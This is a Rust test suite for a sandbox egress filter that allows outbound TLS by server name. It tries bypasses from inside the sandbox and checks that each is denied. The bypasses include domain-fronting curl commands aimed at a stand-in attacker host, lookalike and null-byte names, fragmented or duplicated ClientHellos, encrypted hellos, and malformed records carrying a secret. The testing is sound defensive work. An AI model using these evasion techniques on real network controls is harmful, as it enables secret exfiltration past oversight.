//! Attempts with the name in a TLS hello. What is behind the hello is encrypted: the name in it,
//! together with the address, is all there is to go by.

use super::everywhere;
use k8e_e2e::internet::{ATTACKER, CDN, ELSEWHERE};
use serde_json::json;

#[test]
fn another_name_on_the_same_address() {
    everywhere("good.example", |inside| {
        let curl = format!("--resolve bad.example:443:{CDN} https://bad.example/k8e-secret");
        assert_eq!(inside.curl(&curl), None);
        inside.tries(&format!("reach('{CDN}', 443, hello('bad.example'))"));
        let expected = json!({ "name": "bad.example", "address": CDN.to_string(), "port": 443, "reason": "not_allowed" });
        inside.assert_denied(expected);
    });
}

#[test]
fn no_name() {
    everywhere("good.example,*.good.example", |inside| {
        inside.tries(&format!(
            "reach('{CDN}', 443, hello()); reach('{CDN}', 443, records(hello_body(extension(0, b''))))\n\
             reach('{CDN}', 443, records(hello_body(extension(0, b'\\0\\0'))))\n\
             reach('{CDN}', 443, hello(''))"
        ));
        assert_eq!(inside.curl(&format!("-k https://{CDN}/k8e-secret")), None);
        let expected = json!({ "address": CDN.to_string(), "reason": "no_name" });
        inside.assert_denied(expected);
    });
}

#[test]
fn an_allowed_name_at_the_attackers_address() {
    // Domain fronting: the name that is looked at is not whom it is for.
    everywhere("good.example", |inside| {
        let curl =
            format!("-k --resolve good.example:443:{ATTACKER} https://good.example/k8e-secret");
        assert_eq!(inside.curl(&curl), None);
        let curl = format!(
            "-k --connect-to good.example:443:{ATTACKER}:443 -H 'Host: bad.example' https://good.example/k8e-secret"
        );
        assert_eq!(inside.curl(&curl), None);
        inside.tries(&format!("reach('{ATTACKER}', 443, hello('good.example'))"));
        let expected = json!({ "name": "good.example", "address": ATTACKER.to_string(), "reason": "wrong_address" });
        inside.assert_denied(expected);
    });
}

#[test]
fn a_name_at_the_address_of_another_that_is_allowed() {
    everywhere("good.example,elsewhere.example", |inside| {
        inside.may_name("elsewhere.example");
        inside.tries(&format!(
            "resolve('good.example'), resolve('elsewhere.example')\n\
             reach('{ELSEWHERE}', 443, hello('good.example')); reach('{ELSEWHERE}', 80, get('good.example'))\n\
             reach('{CDN}', 443, hello('elsewhere.example'))"
        ));
        inside.assert_not_reached(ELSEWHERE);
    });
}

#[test]
fn an_encrypted_hello() {
    everywhere("good.example", |inside| {
        // ECH in its final form, and two drafts. What is inside cannot be known.
        inside.tries(&format!(
            "inner = b'\\0' + struct.pack('>HH', 1, 1) + b'\\7' + u16(os.urandom(32)) + u16(os.urandom(200))\n\
             for kind in 0xfe0d, 0xfe09, 0xffce:\n    \
             reach('{CDN}', 443, hello('good.example', more=extension(kind, inner)))"
        ));
        inside.assert_denied(json!({ "address": CDN.to_string(), "reason": "encrypted_hello" }));
    });
}

#[test]
fn two_names() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for names in ('good.example', 'bad.example'), ('bad.example', 'good.example'):\n    \
             reach('{CDN}', 443, hello(*names))\n    \
             reach('{CDN}', 443, records(hello_body(server_name(names[0]), server_name(names[1]))))"
        ));
    });
}

#[test]
fn a_name_in_pieces() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "bad = hello('bad.example'); small = hello('bad.example', size=5)\n\
             reach('{CDN}', 443, small)\n\
             reach('{CDN}', 443, pieces=[bad[:60], bad[60:]])\n\
             reach('{CDN}', 443, pieces=[bytes([byte]) for byte in bad[:80]] + [bad[80:]])\n\
             at = bad.index(b'bad.example'); reach('{CDN}', 443, pieces=[bad[:at + 3], bad[at + 3:]])"
        ));
    });
}

#[test]
fn names_that_look_alike() {
    everywhere("good.example,*.good.example", |inside| {
        inside.tries(&format!(
            "for name in ['good.example.bad.example', 'xgood.example', '.good.example', '*.good.example', 'good.example:443',\n             \
             b'good.example\\0', b'good.example\\0.bad.example', b'bad.example\\0.good.example', 'bad.example/.good.example',\n             \
             'good.example..', ' good.example', 'good.example ', 'good\\u3002example', 'g\\u043e\\u043ed.example', '{CDN}',\n             \
             'a' * 64 + '.good.example', 'a.' * 130 + 'good.example', '..good.example', b'\\xff.good.example']:\n    \
             reach('{CDN}', 443, hello(name), wait=0.7)\n\
             for name in ['good.example.bad.example', 'xgood.example', 'bad.example#.good.example', 'good.example@bad.example']:\n    \
             reach('{CDN}', 80, get(name), wait=0.7)"
        ));
    });
}

#[test]
fn not_tls_on_its_port() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for data in [get('good.example'), b'SSH-2.0-k8e-secret\\r\\n', SECRET * 2000, b'\\0' * 100,\n             \
             b'\\x80\\x2e\\x01\\x00\\x02\\x00\\x15\\x00\\x00\\x00\\x10' + SECRET * 3,\n             \
             b'\\x16\\x03\\x01\\xff\\xff' + SECRET, b'\\x17\\x03\\x03' + u16(SECRET), b'\\x16\\x03\\x01\\0\\0' * 1000,\n             \
             b'\\x16\\x03\\x01' + u16(b'\\x01\\xff\\xff\\xff' + SECRET), b'\\x15\\x03\\x01\\0\\2\\1\\0' + hello('good.example')]:\n    \
             reach('{CDN}', 443, data, wait=0.7)\n    reach('{ATTACKER}', 443, data, wait=0.7)"
        ));
        inside.assert_denied(json!({ "address": CDN.to_string(), "reason": "malformed" }));
    });
}

#[test]
fn nothing_said() {
    everywhere("good.example", |inside| {
        // Nobody is connected to before there is a name, not even whom a name could allow.
        inside.tries(&format!(
            "import threading\n\
             for a in '{CDN}', '{ATTACKER}':\n    \
             for port in 80, 443: threading.Thread(target=reach, args=(a, port, b''), kwargs={{'wait': 3}}).start()"
        ));
        inside.assert_not_reached(CDN);
        inside.tries(&format!(
            "bad = hello('bad.example')\nreach('{ATTACKER}', 443, pieces=[bad[:1], bad[1:2], bad[2:40]], wait=2)"
        ));
        inside.assert_not_reached(ATTACKER);
    });
}

#[test]
fn a_second_hello_behind_the_first() {
    // In the same packet, in the same record, and as data that a server may take before it has answered.
    everywhere("good.example", |inside| {
        inside.python(&format!(
            "good, bad = hello_body(server_name('good.example')), hello_body(server_name('bad.example'))\n\
             early = extension(42, b'')\n\
             for data in [records(good) + records(bad), records(good + bad), records(bad + good), records(good) + b'\\x14\\x03\\x03\\0\\1\\1' + records(bad),\n             \
             records(hello_body(server_name('good.example'), early)) + b'\\x17\\x03\\x03' + u16(SECRET), records(good)[:-1] + records(bad)]:\n    \
             say('{CDN}', 443, data, wait=0.7)"
        ));
        let log = inside.internet.log();
        let asked = |name: &str| {
            let requests = log.requests();
            requests
                .iter()
                .any(|one| one.tls_name.as_deref() == Some(name))
        };
        assert!(!asked("bad.example"));
        // A server that was told the allowed name first may be told anything after.
        inside.internet.forget();
    });
}
